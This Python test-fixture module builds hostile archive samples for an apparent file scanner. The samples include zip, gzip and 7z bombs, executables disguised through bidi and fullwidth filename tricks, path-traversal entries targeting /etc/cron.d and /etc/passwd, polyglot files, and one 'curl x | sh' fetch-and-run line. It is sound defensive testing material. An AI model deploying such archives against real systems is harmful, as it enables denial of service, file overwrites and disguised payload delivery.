"""Archives: bombs, programs inside, ways out, and files that are two things at once."""

import gzip
import io
import stat
import struct
import zipfile

from tests.factories.files import make_image, make_pdf, make_zip
from tests.indicators.evidence.hostile.packed_files import (
    make_mp3,
    make_old_rar,
    make_rar,
    make_seven_zip,
)
from tests.indicators.evidence.odd_files import make_media
from tests.indicators.evidence.test_lying_archives import archive_of, part_of, row_of

PROGRAM = b"MZ" + b"\0" * 200
EVIL = make_zip({"setup.exe": PROGRAM})
MEGABYTE = 1024 * 1024


def nested(levels, data):
    """A ZIP in a ZIP, so many times."""
    for _level in range(levels):
        data = make_zip({"ใน.zip": data})
    return data


def link_to(target):
    """A ZIP with a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("ลิงก์")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
    return out.getvalue()


def overlapping(count):
    """A bomb without nesting: many rows of the table lead to one and the same part."""
    data = b"\0" * MEGABYTE
    part = part_of(b"a", data)
    return archive_of([part], [row_of(b"%d" % n, data, 0) for n in range(count)])


def promised(entries):
    """A ZIP whose table says that so many parts follow."""
    return archive_of([], [], count=entries)


def packed_with(method):
    """A ZIP packed in a way that is rare."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("zeros", b"\0" * 30 * MEGABYTE)
    return out.getvalue()


def locked():
    """A ZIP that says its part is under a password."""
    data = make_zip({"a.txt": b"1"})
    return data.replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\1")


def make():
    """``{name: bytes}``."""
    return bombs() | programs() | ways_out() | two_things() | closed()


def bombs():
    """What unpacks to far more than it is, or costs far more than it seems."""
    zeros = make_zip({"zeros": b"\0" * 40 * MEGABYTE})
    return {
        "bomb.zip": zeros,
        "bomb-bzip2.zip": packed_with(zipfile.ZIP_BZIP2),
        "bomb-lzma.zip": packed_with(zipfile.ZIP_LZMA),
        "bomb-nested.zip": nested(2, zeros),
        "bomb-many.zip": make_zip({f"{n}.zip": zeros for n in range(20)}),
        "bomb-overlapping.zip": overlapping(2000),
        "bomb.docx": make_zip(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * 40 * MEGABYTE}
        ),
        "bomb-below-the-ratio.zip": make_zip(
            {f"{n}.txt": b"\0" * 900_000 + make_image(size=(300, 300)) for n in range(60)}
        ),
        "deep.zip": nested(8, make_zip({"a.txt": b"1"})),
        "quine-like.zip": nested(4, EVIL),
        "crowd.zip": make_zip({f"{n}": b"" for n in range(6000)}),
        "promised-crowd.zip": promised(0xFFFE),
        "crowd-of-pdfs.zip": make_zip({f"{n}.pdf": make_pdf(str(n)) for n in range(210)}),
        "bomb.gz": gzip.compress(b"\0" * 50 * MEGABYTE),
        "xml-entities.docx": make_zip(
            {
                "[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>"
                b"<Types>&b;</Types>",
                "word/document.xml": b"<x/>",
            }
        ),
        "locked.zip": locked(),
    }


def programs():
    """Programs by name and by content."""
    return {
        "program.pdf": PROGRAM,
        "program-linux.jpg": b"\x7fELF" + b"\0" * 200,
        "program-mac.doc": b"\xcf\xfa\xed\xfe" + b"\0" * 200,
        "script.txt": b"#!/bin/sh\ncurl x | sh\n",
        "program.zip": EVIL,
        "program-nested.zip": nested(2, EVIL),
        "program-renamed.zip": make_zip({"แผน.pdf": PROGRAM}),
        "program-stream.zip": make_zip({"a.exe::$DATA": b"x"}),
        "program-wide.zip": make_zip({"a．ｅｘｅ": b"x"}),
        "program-bidi.zip": make_zip({"fdp.\u202eexe.scr": b"x"}),
        "program-blanks.zip": make_zip({"แผน.pdf" + " " * 100 + ".exe": b"x"}),
        "shortcut.zip": make_zip({"แผน.pdf.lnk": b"L\0\0\0"}),
        "java.zip": make_zip({"a.jar": make_zip({"A.class": b"\xca\xfe\xba\xbe"})}),
    }


def ways_out():
    """What would be unpacked outside its folder."""
    return {
        "out-above.zip": make_zip({"../../etc/cron.d/x": b"x"}),
        "out-root.zip": make_zip({"/etc/passwd": b"x"}),
        "out-drive.zip": make_zip({"C:\\Windows\\x.txt": b"x"}),
        "out-backslashes.zip": make_zip({"..\\..\\x.txt": b"x"}),
        "out-link.zip": link_to("/etc/passwd"),
    }


def two_things():
    """Polyglots and lying tables."""
    rar = make_rar("setup.exe")
    return {
        "pdf-and-zip.pdf": make_pdf("ก") + EVIL,
        "jpeg-and-zip.jpg": make_image() + make_zip({"a.txt": b"1"}),
        "png-and-rar.png": make_image("PNG") + rar,
        "film-and-7z.mp4": make_media(b"isom", b"vide") + make_seven_zip("setup.exe"),
        "mp3-and-zip.mp3": make_mp3() + EVIL,
        "text-and-zip.txt": b"text\n" * 100 + EVIL,
        "zip-and-zip.zip": EVIL + make_zip({"a.txt": b"1" * 50}),
        "rar-and-zip.rar": make_rar("a.txt") + EVIL,
        "left-out.zip": archive_of(
            [part_of(b"a.txt", b"text"), part_of(b"setup.exe", PROGRAM)],
            [row_of(b"a.txt", b"text", 0)],
        ),
        "two-names.zip": archive_of(
            [part_of(b"setup.exe", PROGRAM)], [row_of(b"a.txt", PROGRAM, 0)]
        ),
        "size-lies.zip": archive_of(
            [part_of(b"a.txt", b"text", size=4_000_000_000)], [row_of(b"a.txt", b"text", 0)]
        ),
        "cut.zip": EVIL[:-30],
        "table-far-away.zip": archive_of(
            [part_of(b"a", b"x")], [row_of(b"a", b"x", 0)], begins=0x7FFFFFFF
        ),
    }


def closed():
    """RAR and 7z, by what their tables say."""
    rar, old, seven = make_rar("a.txt"), make_old_rar("a.txt"), make_seven_zip("a.txt")
    return {
        "program.rar": make_rar("แผน.pdf", "setup.exe"),
        "program-old.rar": make_old_rar("setup.exe"),
        "program-wide-name.rar": make_old_rar("a.txt", wide="แผน.exe"),
        "program.7z": make_seven_zip("แผน.pdf", "setup.exe"),
        "out.rar": make_rar("../../x.txt"),
        "out.7z": make_seven_zip("/etc/passwd"),
        "locked.rar": make_rar("a.txt", locked=True),
        "locked-names.rar": make_rar("a.txt", heads_locked=True),
        "locked.7z": make_seven_zip("a.txt", locked=True),
        "crowd.rar": make_rar(*map(str, range(6000))),
        "bomb-of-a-table.7z": make_seven_zip("a.txt", promised=1 << 50),
        "cut.rar": rar[: len(rar) // 2],
        "cut-old.rar": old[: len(old) // 2],
        "cut.7z": seven[: len(seven) // 2],
        "size-lies.rar": rar[:12] + b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f" + rar[12:],
        "table-far-away.7z": seven[:12] + struct.pack("<QQ", 1 << 60, 1 << 20) + seven[28:],
    }
